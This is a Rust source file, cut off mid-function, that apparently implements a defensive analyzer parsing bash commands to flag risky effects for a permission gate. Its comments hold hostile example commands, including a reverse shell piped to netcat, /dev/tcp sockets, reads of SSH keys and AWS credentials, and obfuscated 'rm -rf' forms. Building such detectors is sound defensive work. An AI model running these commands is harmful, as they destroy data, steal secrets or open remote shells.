//! Shell commands seen the way bash will run them.
//!
//! A command string is parsed with brush-parser into simple commands (program, arguments,
//! assignments, redirections) across pipelines, lists, groups, loops, functions, heredocs
//! and substitutions. Wrappers (`sudo`, `env`, `timeout`, `xargs`, ...) are stripped, and
//! code that will run is parsed again: `bash -c`, `eval`, `$(...)`, `<(...)`, `find -exec`,
//! `parallel`, `ssh host CMD`, shells fed by heredocs or pipes, interpreter one-liners.
//!
//! What cannot be known is said, never guessed: a program name that is a substitution, code
//! hidden in a variable, a parse error, input too large or too nested to parse safely. Each
//! becomes a [`Note`] that the `shell` pack turns into ask or deny.
//!
//! The parser is a hazard (shared/reference/shell-parsers.md): deep nesting overflows its
//! stack and a few tiny inputs loop forever. So input is bounded in length and nesting
//! before parsing, parsing runs on a thread with a large stack, and a wall-clock limit ends
//! the analysis with a `parser-failure` note (deny).

use super::effects::{Effect, Source};
use super::path;
use super::programs::ProgramTable;
use brush_parser::ast;
use brush_parser::word::{self, WordPiece, WordPieceWithSource};
use std::collections::HashMap;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc;
use std::time::Duration;

/// Longest command string parsed; longer ones get a `too-complex` note.
pub const MAX_SCRIPT_BYTES: usize = 256 * 1024;
/// Deepest nesting of groups, substitutions and compound commands parsed.
pub const MAX_NESTING: usize = 64;
/// Deepest nesting of parentheses parsed (see [`paren_depth`]): about 0.4 ms at this depth.
pub const MAX_PAREN_NESTING: usize = 12;
/// Commands with this many brackets are parsed under a time budget even in the hook.
const RISKY_BRACKETS: usize = 6;
/// How many times code inside code (`bash -c "eval '...'"`) is parsed again.
pub const MAX_RECURSION: usize = 8;
/// A `for` loop with at most this many known values is read once per value.
const MAX_LOOP_VALUES: usize = 8;
/// Most simple commands collected from one call.
pub const MAX_COMMANDS: usize = 4096;
/// Wall-clock budget for parsing one call.
pub const PARSE_BUDGET: Duration = Duration::from_millis(400);
const PARSER_STACK_BYTES: usize = 256 * 1024 * 1024;

/// What the analysis knows about where and as whom the command runs.
#[derive(Debug, Clone)]
pub struct Env {
    pub cwd: Option<String>,
    pub home: Option<String>,
    pub tmpdir: String,
    /// How programs read their arguments and what they do (rules/programs.toml).
    pub programs: Arc<ProgramTable>,
    /// Whether files on disk may be read (a patch file, to see what it changes).
    pub disk: crate::normalize::Disk,
}

static INLINE: AtomicBool = AtomicBool::new(false);

/// Parse on the calling thread from now on. For the hook process only: its watchdog ends a
/// runaway parse with exit 2, and the nesting bound keeps the stack use to a few MB, so the
/// parser thread (about 0.2 ms per call, measured) is not needed there.
pub fn parse_inline() {
    INLINE.store(true, Ordering::Relaxed);
}

/// Analyse a bash command string within the time budget.
pub fn analyze(script: &str, env: &Env) -> Analysis {
    if let Some(note) = refuse_before_parsing(script) {
        return Analysis {
            notes: vec![note],
            ..Default::default()
        };
    }
    // brush-parser can take exponential time on nested brackets well inside the bounds
    // above (found by cargo fuzz). Commands with few brackets are parsed right here; the
    // rest get a thread and a time budget, so a crafted command costs 0.4 s, not the deadline.
    let brackets = script
        .bytes()
        .filter(|b| matches!(b, b'(' | b'{' | b'['))
        .count();
    if INLINE.load(Ordering::Relaxed) && brackets < RISKY_BRACKETS {
        return analyze_now(script, env);
    }
    let (tx, rx) = mpsc::channel();
    let owned_script = script.to_string();
    let owned_env = env.clone();
    let spawned = std::thread::Builder::new()
        .name("toolgate-shell".into())
        .stack_size(PARSER_STACK_BYTES)
        .spawn(move || {
            let _ = tx.send(analyze_now(&owned_script, &owned_env));
        });
    let failure = |detail: &str| Analysis {
        notes: vec![Note {
            kind: NoteKind::ParserFailure,
            detail: detail.to_string(),
        }],
        ..Default::default()
    };
    if spawned.is_err() {
        return failure("could not start the parser thread");
    }
    match rx.recv_timeout(PARSE_BUDGET) {
        Ok(analysis) => analysis,
        // The thread is left behind: the hook process ends right after deciding.
        Err(mpsc::RecvTimeoutError::Timeout) => failure("the shell parser ran out of time"),
        Err(mpsc::RecvTimeoutError::Disconnected) => failure("the shell parser failed"),
    }
}

/// Analyse on the current thread, with no time limit. For inputs already bounded.
pub fn analyze_now(script: &str, env: &Env) -> Analysis {
    let mut analyzer = Analyzer::new(env);
    analyzer.script(script, None, false);
    analyzer.finish()
}

/// Analyse a PowerShell command line (see [`powershell`]): its cmdlets and aliases map to
/// the same effects as their bash counterparts.
pub fn analyze_powershell(script: &str, env: &Env) -> Analysis {
    if script.len() > MAX_SCRIPT_BYTES {
        return Analysis {
            notes: vec![Note {
                kind: NoteKind::TooComplex,
                detail: format!("command is longer than {MAX_SCRIPT_BYTES} bytes"),
            }],
            ..Default::default()
        };
    }
    let mut analyzer = Analyzer::new(env);
    analyzer.powershell(script);
    analyzer.finish()
}

/// Analyse code planted in a file that runs later (a shell rc file, a git hook, a
/// package script), as if it ran now; `via` names the file.
pub fn analyze_planted(code: &str, via: &str, env: &Env) -> Analysis {
    let mut analyzer = Analyzer::new(env);
    analyzer.quiet = true;
    analyzer.script(code, Some(via), true);
    analyzer.finish()
}

/// What a pipeline stage hands to the next one.
#[derive(Debug, Clone, Default)]
struct PipeInput {
    programs: Vec<String>,
    /// The text itself, when a stage only prints literals (`echo`, `printf`, heredoc `cat`).
    text: Option<String>,
    /// Paths a stage prints (`find ~`, `ls -d x`): what xargs turns into arguments.
    paths: Vec<Arg>,
    /// What the stage's output is when it is not plain data: downloaded, decoded.
    source: Option<Source>,
}

struct Analyzer {
    home: Option<String>,
    tmpdir: String,
    programs: Arc<ProgramTable>,
    disk: super::Disk,
    cwd: Option<String>,
    /// Where the command line started (`cd` moves `cwd` away from it).
    start_cwd: Option<String>,
    /// Variables assigned earlier in the script: `Some` known value, `None` unknown.
    vars: HashMap<String, Option<String>>,
    commands: Vec<Command>,
    notes: Vec<Note>,
    via: Vec<String>,
    depth: usize,
    /// Inside xargs / parallel / find -exec, `{}` stands for run-time input.
    placeholders: bool,
    pipe: Option<PipeInput>,
    /// Parse errors inside interpreter string literals are expected: do not note them.
    quiet: bool,
    /// Programs run by substitutions in the words expanded since the last drain.
    word_fed: Vec<String>,
    effects: Vec<Effect>,
    /// Files this command line writes, with where their content comes from: `curl -o f`
    /// (network), `base64 -d > f` (decoded), `echo 'code' > f` (the code itself).
    written: std::collections::HashMap<String, Written>,
    /// Symbolic links made earlier in the command line: link -> target.
    links: Vec<(String, String)>,
    /// Where commands run when not here (`ssh host '...'`), innermost last.
    remote: Vec<String>,
    /// Inside an unknown program's arguments read as a command.
    speculative: bool,
    /// Process substitutions seen, to name each one's `/dev/fd` path.
    procsubs: usize,
    /// Variables whose value is a glob (`for f in ~/.ssh/*`): expanding one is a glob too.
    glob_vars: std::collections::HashSet<String>,
    /// git aliases defined earlier (`git config alias.x '...'`, `git -c alias.x=...`).
    git_aliases: std::collections::HashMap<String, String>,
}

/// What a file written earlier in the same command line holds.
#[derive(Debug, Clone)]
pub(crate) enum Written {
    /// Known text (`echo 'rm -rf ~' > x.sh`).
    Text(String),
    /// Content from somewhere not visible: the network, a decoder.
    From(Source),
}

impl Analyzer {
    fn new(env: &Env) -> Self {
        Self {
            home: env.home.clone(),
            tmpdir: env.tmpdir.clone(),
            programs: env.programs.clone(),
            disk: env.disk.clone(),
            cwd: env.cwd.clone(),
            start_cwd: env.cwd.clone(),
            vars: HashMap::new(),
            commands: Vec::new(),
            notes: Vec::new(),
            via: Vec::new(),
            depth: 0,
            placeholders: false,
            pipe: None,
            quiet: false,
            word_fed: Vec::new(),
            effects: Vec::new(),
            written: std::collections::HashMap::new(),
            links: Vec::new(),
            remote: Vec::new(),
            speculative: false,
            procsubs: 0,
            glob_vars: std::collections::HashSet::new(),
            git_aliases: std::collections::HashMap::new(),
        }
    }

    fn finish(mut self) -> Analysis {
        self.flow();
        Analysis {
            commands: self.commands,
            notes: self.notes,
            effects: self.effects,
        }
    }

    fn note(&mut self, kind: NoteKind, detail: impl Into<String>) {
        if self.quiet && kind == NoteKind::ParseError {
            return;
        }
        let note = Note {
            kind,
            detail: detail.into(),
        };
        if !self.notes.contains(&note) && self.notes.len() < 64 {
            self.notes.push(note);
        }
    }

    /// Parse and walk `code`. Returns the programs it runs (for `fed_by`).
    fn script(&mut self, code: &str, via: Option<&str>, quiet: bool) -> Vec<String> {
        if self.depth >= MAX_RECURSION {
            self.note(
                NoteKind::TooComplex,
                "code nested inside code too many times",
            );
            return Vec::new();
        }
        if self.depth > 0
            && let Some(note) = refuse_before_parsing(code)
        {
            self.note(note.kind, note.detail);
            return Vec::new();
        }
        let before = self.commands.len();
        // Code run by another shell or a substitution cannot change our directory or vars.
        let saved = (
            self.cwd.clone(),
            self.vars.clone(),
            self.pipe.take(),
            self.quiet,
        );
        self.depth += 1;
        self.quiet |= quiet;
        if let Some(via) = via {
            self.via.push(via.to_string());
        }
        match parse(code) {
            Ok(program) => self.program(&program),
            Err(error) if error == PARSER_PANIC => self.note(NoteKind::ParserFailure, error),
            Err(error) => {
                self.note(NoteKind::ParseError, error);
                match repair(code) {
                    Some(program) => self.program(&program),
                    None => {
                        for words in rough_split(code) {
                            self.emit(Command {
                                args: words,
                                ..Default::default()
                            });
                        }
                    }
                }
            }
        }
        if via.is_some() {
            self.via.pop();
        }
        self.depth -= 1;
        (self.cwd, self.vars, self.pipe, self.quiet) = saved;
        self.programs_since(before)
    }

    fn programs_since(&self, before: usize) -> Vec<String> {
        let mut out = Vec::new();
        for cmd in &self.commands[before.min(self.commands.len())..] {
            for p in std::iter::once(&cmd.program).chain(cmd.fed_by.iter()) {
                if !p.is_empty() && !out.contains(p) {
                    out.push(p.clone());
                }
            }
        }
        out
    }

    fn program(&mut self, program: &ast::Program) {
        for list in &program.complete_commands {
            self.compound_list(list);
        }
    }

    fn compound_list(&mut self, list: &ast::CompoundList) {
        for item in &list.0 {
            self.and_or(&item.0);
        }
    }

    fn and_or(&mut self, list: &ast::AndOrList) {
        self.pipeline(&list.first);
        for next in &list.additional {
            match next {
                ast::AndOr::And(p) | ast::AndOr::Or(p) => self.pipeline(p),
            }
        }
    }

    fn pipeline(&mut self, pipeline: &ast::Pipeline) {
        let first_command = self.commands.len();
        let outer = self.pipe.take();
        let mut input: Option<PipeInput> = outer.clone();
        for stage in &pipeline.seq {
            self.pipe = input.take();
            let before = self.commands.len();
            self.command(stage);
            let programs = self.programs_since(before);
            let stage = &self.commands[before.min(self.commands.len())..];
            let (text, paths) = match stage {
                [cmd] => (printed_text_any_shell(cmd), self.printed_paths(cmd)),
                _ => (None, Vec::new()),
            };
            let mut next = self.pipe.take().unwrap_or_default();
            for p in programs {
                if !next.programs.contains(&p) {
                    next.programs.push(p);
                }
            }
            next.text = text;
            next.paths = paths;
            next.source = next.source.max(self.stage_source(before));
            input = Some(next);
        }
        self.pipe = outer;
        self.reverse_shell(first_command);
    }

    /// What the commands since `before` print, when it is code from somewhere unseen: a
    /// downloader's output, a decoder's, a file this command line downloaded.
    fn stage_source(&self, before: usize) -> Option<Source> {
        let mut source = None;
        for (i, cmd) in self.commands.iter().enumerate().skip(before) {
            source = source.max(self.classify(std::slice::from_ref(&cmd.program)));
            // `openssl s_client` prints the network; `openssl x509` does not.
            let parsed = self.programs.read_written(cmd);
            source = source.max(self.programs.spec_of(&parsed).output);
            if passes_through(&cmd.program) {
                source = source.max(cmd.fed_source);
            }
            for e in self
                .effects
                .iter()
                .filter(|e| e.command == Some(i) && e.kind == super::effects::Kind::Read)
            {
                if let super::effects::Target::Path(p) = &e.target
                    && let Some(Written::From(s)) = self.written_at(p)
                {
                    source = source.max(Some(s));
                }
            }
        }
        source
    }

    /// `cat f | sh -i 2>&1 | nc host port > f`: a shell reading stdin in the same pipeline
    /// as a network client is a shell served over the network.
    fn reverse_shell(&mut self, first_command: usize) {
        let stages = &self.commands[first_command.min(self.commands.len())..];
        let net = stages
            .iter()
            .any(|c| self.classify(std::slice::from_ref(&c.program)) == Some(Source::Network));
        if !net {
            return;
        }
        let shells: Vec<usize> = stages
            .iter()
            .enumerate()
            .filter(|(_, c)| {
                wrappers::SHELLS.contains(&c.program.as_str())
                    && c.args
                        .iter()
                        .all(|a| a.text.starts_with('-') && !a.text.contains('c'))
            })
            .map(|(i, _)| first_command + i)
            .collect();
        for index in shells {
            let effect = Effect::new(
                super::effects::Kind::Exec,
                super::effects::Target::None,
                "shell piped to a network client",
            )
            .from_source(Source::Network);
            self.push_effect(index, effect);
        }
    }

    /// Paths a stage prints, for xargs: find's starting points (everything under them),
    /// `ls -d` operands, echoed words.
    fn printed_paths(&self, cmd: &Command) -> Vec<Arg> {
        match cmd.program.as_str() {
            "find" | "fd" | "fdfind" => find_targets(cmd),
            "ls" => cmd
                .args
                .iter()
                .filter(|a| !a.text.starts_with('-'))
                .cloned()
                .collect(),
            _ => printed_text(cmd)
                .map(|t| t.split_whitespace().map(Arg::literal).collect())
                .unwrap_or_default(),
        }
    }

    fn command(&mut self, command: &ast::Command) {
        if self.commands.len() >= MAX_COMMANDS {
            self.note(
                NoteKind::TooComplex,
                "more simple commands than toolgate analyses",
            );
            return;
        }
        match command {
            ast::Command::Simple(simple) => self.simple(simple),
            ast::Command::Compound(compound, redirects) => {
                self.compound(compound);
                if let Some(list) = redirects {
                    self.bare_redirects(&list.0);
                }
            }
            ast::Command::Function(function) => {
                self.compound(&function.body.0);
            }
            ast::Command::ExtendedTest(test, _) => {
                let text = test.to_string();
                self.hidden_substitutions(&text);
            }
        }
    }

    fn compound(&mut self, compound: &ast::CompoundCommand) {
        use ast::CompoundCommand as C;
        match compound {
            C::Arithmetic(a) => {
                // brush-parser reads `( ( cmd ) )` as `(( arithmetic ))`; bash reads nested
                // subshells. Read the text as code too, quietly, so neither reading hides it.
                let text = a.expr.value.clone();
                self.hidden_substitutions(&text);
                self.script(&text, Some("(( ))"), true);
            }
            C::ArithmeticForClause(f) => {
                for e in [&f.initializer, &f.condition, &f.updater]
                    .into_iter()
                    .flatten()
                {
                    self.hidden_substitutions(&e.value.clone());
                }
                self.compound_list(&f.body.list);
            }
            C::BraceGroup(b) => self.compound_list(&b.list),
            C::Subshell(s) => {
                let saved = (self.cwd.clone(), self.vars.clone());
                self.compound_list(&s.list);
                (self.cwd, self.vars) = saved;
            }
            C::ForClause(f) => {
                // `for d in /etc /usr; do rm -rf "$d"; done`: the body runs once per value;
                // with few known values it is read once per value.
                let mut values: Vec<Arg> = Vec::new();
                for w in f.values.iter().flatten() {
                    values.extend(self.expand_words(w));
                }
                let known = values.len() <= MAX_LOOP_VALUES && values.iter().all(|v| !v.dynamic);
                let name = f.variable_name.clone();
                if known && !values.is_empty() {
                    for value in values {
                        self.vars.insert(name.clone(), Some(value.text.clone()));
                        if value.glob {
                            self.glob_vars.insert(name.clone());
                        } else {
                            self.glob_vars.remove(&name);
                        }
                        self.compound_list(&f.body.list);
                    }
                    self.glob_vars.remove(&name);
                } else {
                    self.vars.insert(name, None);
                    self.compound_list(&f.body.list);
                }
            }
            C::CaseClause(c) => {
                self.expand(&c.value);
                for item in &c.cases {
                    if let Some(list) = &item.cmd {
                        self.compound_list(list);
                    }
                }
            }
            C::IfClause(i) => {
                self.compound_list(&i.condition);
                self.compound_list(&i.then);
                for e in i.elses.iter().flatten() {
                    if let Some(cond) = &e.condition {
                        self.compound_list(cond);
                    }
                    self.compound_list(&e.body);
                }
            }
            C::WhileClause(w) | C::UntilClause(w) => {
                self.compound_list(&w.0);
                self.compound_list(&w.1.list);
            }
            C::Coprocess(c) => self.command(&c.body),
        }
    }

    /// What a program run now may find in its environment beyond its own assignments:
    /// variables given a known value earlier in the line, and `PWD` once `cd` moved away.
    pub(crate) fn inherited(&self) -> Vec<(String, String)> {
        let mut out: Vec<(String, String)> = self
            .vars
            .iter()
            .filter_map(|(k, v)| Some((k.clone(), v.clone()?)))
            .collect();
        out.sort();
        if self.cwd != self.start_cwd
            && let Some(cwd) = &self.cwd
        {
            out.push(("PWD".into(), cwd.clone()));
        }
        out
    }

    fn bare_redirects(&mut self, redirects: &[ast::IoRedirect]) {
        let mut cmd = Command::default();
        for r in redirects {
            self.redirect(r, &mut cmd);
        }
        if !cmd.redirects.is_empty() {
            self.push_redirect_only(cmd);
        }
    }

    /// A command that is only redirections (`> f`, `done < f`): the shell does the work.
    fn push_redirect_only(&mut self, mut cmd: Command) {
        cmd.cwd = self.cwd.clone();
        cmd.via = self.via.clone();
        cmd.remote = self.remote.clone();
        cmd.speculative = self.speculative;
        let index = self.commands.len();
        self.commands.push(cmd);
        self.command_effects(index);
    }

    fn simple(&mut self, simple: &ast::SimpleCommand) {
        use ast::CommandPrefixOrSuffixItem as Item;
        let mut cmd = Command::default();
        let outer_fed = std::mem::take(&mut self.word_fed);
        let mut words: Vec<Arg> = Vec::new();
        let mut prefix_vars: Vec<(String, Arg)> = Vec::new();
        for item in simple.prefix.iter().flat_map(|p| p.0.iter()) {
            match item {
                Item::AssignmentWord(assignment, word) => {
                    let value = match &assignment.value {
                        ast::AssignmentValue::Scalar(w) => self.expand(w),
                        ast::AssignmentValue::Array(items) => {
                            for (_, w) in items {
                                self.expand(w);
                            }
                            Arg {
                                text: word.value.clone(),
                                dynamic: true,
                                glob: false,
                            }
                        }
                    };
                    let name = match &assignment.name {
                        ast::AssignmentName::VariableName(n) => n.clone(),
                        ast::AssignmentName::ArrayElementName(n, _) => n.clone(),
                    };
                    prefix_vars.push((name, value));
                }
                other => self.item(other, &mut cmd, &mut words),
            }
        }
        // A prefix assignment (`X=1 cmd $X`) does not change how this command's own words
        // expand; what they hold is the environment's value, unknown here.
        let shadow: Vec<(String, Option<Option<String>>)> = if simple.word_or_name.is_some() {
            prefix_vars
                .iter()
                .map(|(n, _)| (n.clone(), self.vars.insert(n.clone(), None)))
                .collect()
        } else {
            Vec::new()
        };
        if let Some(w) = &simple.word_or_name {
            let args = self.expand_words(w);
            words.extend(args);
        }
        for item in simple.suffix.iter().flat_map(|s| s.0.iter()) {
            self.item(item, &mut cmd, &mut words);
        }
        for (n, old) in shadow {
            match old {
                Some(v) => self.vars.insert(n, v),
                None => self.vars.remove(&n),
            };
        }
        let own_fed = std::mem::replace(&mut self.word_fed, outer_fed);
        if words.is_empty() {
            // `x=rm` alone sets a shell variable for the commands that follow.
            for (name, value) in prefix_vars {
                // `t=~/.ss?/id_rsa; cat $t`: the glob expands where `$t` is used unquoted.
                if !value.dynamic && value.text.contains(['*', '?', '[']) {
                    self.glob_vars.insert(name.clone());
                } else {
                    self.glob_vars.remove(&name);
                }
                let known = (!value.dynamic).then_some(value.text);
                self.vars.insert(name, known);
            }
            if !cmd.redirects.is_empty() {
                self.push_redirect_only(cmd);
            }
            return;
        }
        cmd.fed_by.extend(own_fed);
        cmd.assignments = prefix_vars;
        cmd.args = words;
        self.emit(cmd);
    }

    fn item(
        &mut self,
        item: &ast::CommandPrefixOrSuffixItem,
        cmd: &mut Command,
        words: &mut Vec<Arg>,
    ) {
        use ast::CommandPrefixOrSuffixItem as Item;
        match item {
            Item::IoRedirect(r) => self.redirect(r, cmd),
            // `echo a=b`: an assignment-shaped argument is just an argument.
            Item::Word(w) | Item::AssignmentWord(_, w) => {
                let args = self.expand_words(w);
                words.extend(args);
            }
            Item::ProcessSubstitution(kind, sub) => {
                let via = match kind {
                    ast::ProcessSubstitutionKind::Read => "<(...)",
                    ast::ProcessSubstitutionKind::Write => ">(...)",
                };
                // `tee >(sh)`: what the command reads (tee copies it) reaches the code inside.
                let feeds = matches!(kind, ast::ProcessSubstitutionKind::Write)
                    .then(|| self.pipe.clone())
                    .flatten();
                let before = self.commands.len();
                let programs = self.subshell_code_fed(&sub.list, via, feeds);
                cmd.fed_by.extend(programs);
                let path = self.procsub_path(before);
                words.push(Arg::literal(path));
            }
        }
    }

    /// `<(...)` is a file (`/dev/fd/63`) holding what its commands print: known text, or
    /// output from the network or a decoder. Later `sh /dev/fd/63` reads it back.
    fn procsub_path(&mut self, before: usize) -> String {
        let path = format!("/dev/fd/{}", 63usize.saturating_sub(self.procsubs));
        self.procsubs += 1;
        let stage = &self.commands[before.min(self.commands.len())..];
        let content = match stage {
            [only] => printed_text_any_shell(only).map(Written::Text),
            _ => None,
        }
        .or_else(|| self.stage_source(before).map(Written::From));
        if let Some(content) = content {
            self.written.insert(path.clone(), content);
        }
        path
    }

    /// Walk code given as an AST list (process substitution), as a subshell.
    fn subshell_code(&mut self, list: &ast::CompoundList, via: &str) -> Vec<String> {
        self.subshell_code_fed(list, via, None)
    }

    fn subshell_code_fed(
        &mut self,
        list: &ast::CompoundList,
        via: &str,
        input: Option<PipeInput>,
    ) -> Vec<String> {
        let before = self.commands.len();
        let saved = (self.cwd.clone(), self.vars.clone(), self.pipe.take());
        self.pipe = input;
        self.via.push(via.to_string());
        self.compound_list(list);
        self.via.pop();
        (self.cwd, self.vars, self.pipe) = saved;
        self.programs_since(before)
    }

    fn redirect(&mut self, redirect: &ast::IoRedirect, cmd: &mut Command) {
        use ast::IoFileRedirectKind as K;
        match redirect {
            ast::IoRedirect::File(_, kind, target) => {
                let kind = match kind {
                    K::Read => RedirectKind::Read,
                    K::Append => RedirectKind::Append,
                    K::Write | K::Clobber => RedirectKind::Write,
                    // `<>`: opened for both; a socket (`exec 5<>/dev/tcp/h/p`) is read too.
                    K::ReadAndWrite => {
                        if let ast::IoFileRedirectTarget::Filename(w) = target {
                            let target = self.expand(w);
                            cmd.redirects.push(Redirect {
                                kind: RedirectKind::Read,
                                target: target.clone(),
                            });
                            cmd.redirects.push(Redirect {
                                kind: RedirectKind::Append,
                                target,
                            });
                        }
                        return;
                    }
                    K::DuplicateInput | K::DuplicateOutput => {
                        // `>& file` (not `>&2`): stdout and stderr to a file.
                        if let ast::IoFileRedirectTarget::Duplicate(w) = target {
                            let arg = self.expand(w);
                            let fd = arg.text.chars().all(|c| c.is_ascii_digit() || c == '-');
                            if !fd {
                                cmd.redirects.push(Redirect {
                                    kind: if matches!(kind, K::DuplicateInput) {
                                        RedirectKind::Read
                                    } else {
                                        RedirectKind::Write
                                    },
                                    target: arg,
                                });
                            }
                        }
                        return;
                    }
                };
                match target {
                    ast::IoFileRedirectTarget::Filename(w) => {
                        let target = self.expand(w);
                        cmd.redirects.push(Redirect { kind, target });
                    }
                    ast::IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                        let programs = self.subshell_code(&sub.list, "redirect (...)");
                        cmd.fed_by.extend(programs);
                    }
                    ast::IoFileRedirectTarget::Duplicate(w) => {
                        self.expand(w);
                    }
                    ast::IoFileRedirectTarget::Fd(_) => {}
                }
            }
            ast::IoRedirect::OutputAndError(w, append) => {
                let target = self.expand(w);
                cmd.redirects.push(Redirect {
                    kind: if *append {
                        RedirectKind::Append
                    } else {
                        RedirectKind::Write
                    },
                    target,
                });
            }
            ast::IoRedirect::HereDocument(_, doc) => {
                let body = if doc.requires_expansion {
                    self.expand_heredoc(&doc.doc.value)
                } else {
                    doc.doc.value.clone()
                };
                cmd.stdin_text.push_str(&body);
            }
            ast::IoRedirect::HereString(_, w) => {
                let arg = self.expand(w);
                cmd.stdin_text.push_str(&arg.text);
                cmd.stdin_text.push('\n');
            }
        }
    }

    fn expand_heredoc(&mut self, body: &str) -> String {
        let parsed = guarded(|| word::parse_heredoc(body, &parser_options()).ok());
        if parsed.is_none() {
            self.note(NoteKind::ParserFailure, PARSER_PANIC);
        }
        match parsed.flatten().ok_or(()) {
            Ok(pieces) => {
                let mut out = vec![Arg::literal("")];
                self.pieces(body, &pieces, &mut out, true);
                out.into_iter()
                    .map(|a| a.text)
                    .collect::<Vec<_>>()
                    .join(" ")
            }
            Err(_) => {
                self.hidden_substitutions(body);
                body.to_string()
            }
        }
    }

    /// Expand one word where a single value is needed (assignments, redirection targets).
    /// Programs run by substitutions go to `word_fed`.
    fn expand(&mut self, word: &ast::Word) -> Arg {
        self.expand_text(&word.value)
    }

    fn expand_text(&mut self, raw: &str) -> Arg {
        let args = self.expand_split(raw);
        let dynamic = args.iter().any(|a| a.dynamic);
        // A redirect's target is globbed too (`> ~/.claude/s*.json` writes settings.json
        // when one file matches).
        let glob = args.iter().any(|a| a.glob);
        let text = args
            .into_iter()
            .map(|a| a.text)
            .collect::<Vec<_>>()
            .join(" ");
        Arg {
            text,
            dynamic,
            glob,
        }
    }

    /// Expand a command word as bash does: brace expansion, then quote removal and the
    /// expansions toolgate can know, then splitting of unquoted expansions on blanks.
    fn expand_words(&mut self, word: &ast::Word) -> Vec<Arg> {
        let mut out = Vec::new();
        for variant in brace_expand(&word.value) {
            out.extend(self.expand_split(&variant));
        }
        out
    }

    fn expand_split(&mut self, raw: &str) -> Vec<Arg> {
        let mut args = vec![Arg::literal("")];
        let parsed = guarded(|| word::parse(raw, &parser_options()).ok());
        if parsed.is_none() {
            self.note(NoteKind::ParserFailure, PARSER_PANIC);
        }
        match parsed.flatten().ok_or(()) {
            Ok(pieces) => self.pieces(raw, &pieces, &mut args, false),
            Err(_) => {
                let programs = self.hidden_substitutions(raw);
                self.word_fed.extend(programs);
                args = vec![Arg {
                    text: raw.to_string(),
                    dynamic: true,
                    glob: false,
                }];
            }
        }
        for arg in &mut args {
            if self.placeholders && arg.text.contains('{') && arg.text.contains('}') {
                arg.dynamic = true;
            }
        }
        // An unquoted expansion to nothing leaves no word; `''` is an empty word.
        args.retain(|a| !a.text.is_empty() || a.dynamic || raw.contains(['\'', '"']));
        if args.is_empty() {
            args.push(Arg::literal(""));
        }
        args
    }

    /// Append pieces to `out.last()`; unquoted known expansions split into more words.
    fn pieces(
        &mut self,
        raw: &str,
        pieces: &[WordPieceWithSource],
        out: &mut Vec<Arg>,
        quoted: bool,
    ) {
        for piece in pieces {
            let source = raw.get(piece.start_index..piece.end_index).unwrap_or("");
            let push = |out: &mut Vec<Arg>, text: &str, dynamic: bool| {
                if let Some(last) = out.last_mut() {
                    last.text.push_str(text);
                    last.dynamic |= dynamic;
                }
            };
            match &piece.piece {
                WordPiece::Text(s) => {
                    push(out, s, false);
                    if !quoted
                        && s.contains(['*', '?', '['])
                        && let Some(last) = out.last_mut()
                    {
                        last.glob = true;
                    }
                }
                WordPiece::SingleQuotedText(s) => push(out, s, false),
                WordPiece::AnsiCQuotedText(s) => push(out, &decode_ansi_c(s), false),
                WordPiece::EscapeSequence(s) => push(out, s.strip_prefix('\\').unwrap_or(s), false),
                WordPiece::DoubleQuotedSequence(inner)
                | WordPiece::GettextDoubleQuotedSequence(inner) => {
                    self.pieces(raw, inner, out, true);
                }
                WordPiece::TildeExpansion(tilde) => match (tilde, &self.home) {
                    (word::TildeExpr::Home, Some(home)) => push(out, &home.clone(), false),
                    (word::TildeExpr::WorkingDir, _) if self.cwd.is_some() => {
                        let cwd = self.cwd.clone().unwrap_or_default();
                        push(out, &cwd, false);
                    }
                    (word::TildeExpr::UserHome(user), _) => {
                        let home = user_home(user, self.home.as_deref());
                        push(out, &home, false);
                    }
                    _ => push(out, source, true),
                },
                WordPiece::ParameterExpansion(expr) => match self.known_parameter(expr) {
                    Some(value) => {
                        self.push_split(out, &value, quoted);
                        if self.is_glob_parameter(expr)
                            && let Some(last) = out.last_mut()
                        {
                            last.glob = true;
                        }
                    }
                    None => {
                        push(out, source, true);
                        // `${x:-$(cmd)}` hides a substitution in the expansion's text.
                        let programs = self.hidden_substitutions(source);
                        self.word_fed.extend(programs);
                    }
                },
                WordPiece::CommandSubstitution(code)
                | WordPiece::BackquotedCommandSubstitution(code) => {
                    let before = self.commands.len();
                    let programs = self.script(code, Some("$(...)"), false);
                    self.word_fed.extend(programs);
                    // `$(echo rm)`, `$(printf '%s' ~/.aws/credentials)`: the output is known;
                    // `$(ls ~/.ssh/id_*)` prints what its glob matches.
                    let stage = &self.commands[before.min(self.commands.len())..];
                    let printed = match stage {
                        [only] => printed_text(only),
                        _ => None,
                    };
                    let listed = match stage {
                        [only] if matches!(only.program.as_str(), "ls" | "find" | "fd") => {
                            self.printed_paths(only)
                        }
                        _ => Vec::new(),
                    };
                    match printed {
                        Some(text) => {
                            let text = text.trim_end_matches('\n').to_string();
                            let first = out.len().saturating_sub(1);
                            self.push_split(out, &text, quoted);
                            // Unquoted, the printed words are globbed too (`cat $(echo ~/.ss?/x)`).
                            if !quoted {
                                for arg in &mut out[first..] {
                                    arg.glob |= arg.text.contains(['*', '?', '[']);
                                }
                            }
                        }
                        None if !listed.is_empty() && !quoted => {
                            for (i, path) in listed.into_iter().enumerate() {
                                if i > 0 {
                                    out.push(Arg::literal(""));
                                }
                                if let Some(last) = out.last_mut() {
                                    last.text.push_str(&path.text);
                                    last.glob |= path.glob;
                                    last.dynamic |= path.dynamic;
                                }
                            }
                        }
                        None => push(out, source, true),
                    }
                }
                WordPiece::ArithmeticExpression(expr) => {
                    let programs = self.hidden_substitutions(&expr.value.clone());
                    self.word_fed.extend(programs);
                    push(out, source, true);
                }
            }
        }
    }

    /// Append an expansion's value to the last word; unquoted, it splits on blanks the way
    /// bash's field splitting does (`x="rm -rf /"; $x`, `rm${IFS}-rf${IFS}/`).
    fn push_split(&self, out: &mut Vec<Arg>, value: &str, quoted: bool) {
        let append = |out: &mut Vec<Arg>, text: &str| {
            if let Some(last) = out.last_mut() {
                last.text.push_str(text);
            }
        };
        if quoted || !value.contains([' ', '\t', '\n']) {
            append(out, value);
            return;
        }
        let mut first = true;
        for part in value.split([' ', '\t', '\n']) {
            if !first {
                out.push(Arg::literal(""));
            }
            append(out, part);
            first = false;
        }
    }

    fn is_glob_parameter(&self, expr: &word::ParameterExpr) -> bool {
        matches!(expr, word::ParameterExpr::Parameter {
            parameter: word::Parameter::Named(name),
            indirect: false,
        } if self.glob_vars.contains(name))
    }

    fn known_parameter(&self, expr: &word::ParameterExpr) -> Option<String> {
        let word::ParameterExpr::Parameter {
            parameter: word::Parameter::Named(name),
            indirect: false,
